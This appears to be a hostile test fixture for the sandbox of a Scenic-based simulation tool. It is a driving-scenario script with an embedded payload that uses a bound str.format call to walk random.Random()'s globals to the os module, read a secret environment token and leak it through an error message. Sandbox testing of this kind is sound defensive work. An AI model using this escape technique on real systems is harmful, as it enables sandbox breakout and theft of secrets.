# Hostile test script for arise's sandbox: never run it outside tests/validate/test_hostile.py.
# fmt_bound_format (format_string): a bound str.format taken without calling it at once walks random.Random()'s globals to the environment.
# The payload runs at the top level, while the script compiles.
# @CANARY@, @SECRET@, @SSH_KEY@, @PORT@ ... are filled in by the test (see manifest.yaml).
Town = 'arise_straight'
param map = localPath(f'maps/{Town}.xodr')
param carla_map = Town
model scenic.simulators.carla.model
import random
walk = "{0.__init__.__globals__[_os].environ[ARISE_HOSTILE_TOKEN]}".format
raise RuntimeError('stolen: ' + walk(random.Random()))

egoLane = Uniform(*network.lanes)
ego = new Car on egoLane.centerline, with blueprint "vehicle.lincoln.mkz_2017", with behavior FollowLaneBehavior(target_speed=8)
